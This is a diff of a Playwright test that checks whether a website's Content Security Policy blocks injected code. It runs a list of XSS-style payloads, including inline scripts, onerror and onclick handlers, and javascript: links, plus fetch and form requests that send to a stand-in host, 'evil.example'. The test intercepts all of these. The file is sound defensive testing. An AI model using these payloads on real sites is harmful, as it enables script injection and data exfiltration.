@@ -1,10 +1,8 @@
-import type { Page } from '@playwright/test';
-import { untilHydrated } from './site-test';
+import type { Browser } from '@playwright/test';
+import { expect, test, untilHydrated } from '../support/site-test';
 
-/** Exposed to the page by `startAttacks`. */
+/** Exposed to the page by `start`. */
 declare function ran(name: string): void;
-
-const EVIL = 'https://evil.example';
 
 /** Runs in the page: adds an element, as injected code would. */
 function add(tag: string, properties: object, attributes: Record<string, string> = {}): HTMLElement {
@@ -12,13 +10,12 @@ function add(tag: string, properties: object, attributes: Record<string, string>
   for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
   return document.body.appendChild(element);
 }
-const outlineOf = (element: Element | null) => getComputedStyle(element ?? document.body).outlineWidth;
 
 /**
  * Ways to get code into a page or data out of it. Each runs in a timer of the page, because the policy does not apply to what
  * Playwright evaluates itself. An attack has worked when it calls `ran(name)`, or when its request for `address` is sent.
  */
-const inPage: Record<string, (name: string, address: string) => unknown> = {
+const attacks: Record<string, (name: string, address: string) => unknown> = {
   'inline script': (name) => add('script', { textContent: `ran('${name}')` }),
   'handler attribute': (name) => add('button', {}, { onclick: `ran('${name}')` }).click(),
   'innerHTML with a handler': (name) => add('div', { innerHTML: `<img src="data:," onerror="ran('${name}')">` }),
@@ -28,7 +25,7 @@ const inPage: Record<string, (name: string, address: string) => unknown> = {
   'link that is a script': (name) => add('a', { href: `javascript:ran('${name}')` }).click(),
   'style element': (name) => {
     add('style', { textContent: 'h1 { outline: 7px solid }' });
-    if (outlineOf(document.querySelector('h1')) === '7px') ran(name);
+    if (getComputedStyle(document.querySelector('h1') ?? document.body).outlineWidth === '7px') ran(name);
   },
   'fetch to another site': (name, address) => fetch(address, { mode: 'no-cors' }).catch(() => {}),
   'form to another site': (name, address) =>
@@ -42,36 +39,33 @@ const inPage: Record<string, (name: string, address: string) => unknown> = {
   },
 };
 
-export const attacks = Object.keys(inPage);
+test('injected code runs without the policy, but not with it', { tag: '@desktop' }, async ({ browser }) => {
+  test.slow();
+  const begun = Date.now();
+  const withoutPolicy = await start(browser, { bypassCSP: true });
+  await expect.poll(() => [...withoutPolicy].toSorted()).toEqual(Object.keys(attacks).toSorted());
+  const longEnough = Date.now() - begun;
+  const withPolicy = await start(browser, { bypassCSP: false });
+  await new Promise((resolve) => setTimeout(resolve, longEnough));
+  expect([...withPolicy]).toEqual([]);
+});
 
-/**
- * Tries each attack on a page.
- *
- * @returns a set that fills with the names of the attacks that work
- */
-export async function startAttacks(page: Page, address: string): Promise<ReadonlySet<string>> {
+/** Starts all attacks on a page. Returns a set that fills with the names of those that work. */
+async function start(browser: Browser, options: { bypassCSP: boolean }): Promise<ReadonlySet<string>> {
   const worked = new Set<string>();
+  const page = await browser.newPage(options);
   await page.exposeFunction('ran', (name: string) => void worked.add(name));
   await page.context().route(/evil\.example\/\?|\/planted\.js\?/, (route) => {
     const name = decodeURIComponent(new URL(route.request().url()).search.slice(1));
     if (route.request().resourceType() !== 'script') worked.add(name);
     return route.fulfill({ contentType: 'text/javascript', body: `ran(${JSON.stringify(name)})` });
   });
-  const code = Object.entries(inPage).map(([name, run]) => `${JSON.stringify(name)}: ${String(run)}`);
-  await page.addInitScript({
-    content: `${String(add)}; const outlineOf = ${String(outlineOf)}; window.attacks = { ${code.join(',')} }`,
-  });
-  await page.goto(address);
+  await page.goto('/about');
   // React renders the page anew because of the planted HTML, and would take away a frame that was added before and still loads.
   await untilHydrated(page);
-  for (const name of Object.keys(inPage)) {
-    await page.evaluate(
-      ([chosen = '', to = '']) => {
-        const { attacks: known } = window as unknown as { attacks: typeof inPage };
-        setTimeout(() => known[chosen]?.(chosen, to));
-      },
-      [name, `${EVIL}/?${encodeURIComponent(name)}`],
-    );
+  for (const [name, run] of Object.entries(attacks)) {
+    const given = JSON.stringify([name, `https://evil.example/?${encodeURIComponent(name)}`]);
+    await page.evaluate(`setTimeout(${String(run)}, 0, ...${given}); ${String(add)}`);
   }
   return worked;
 }
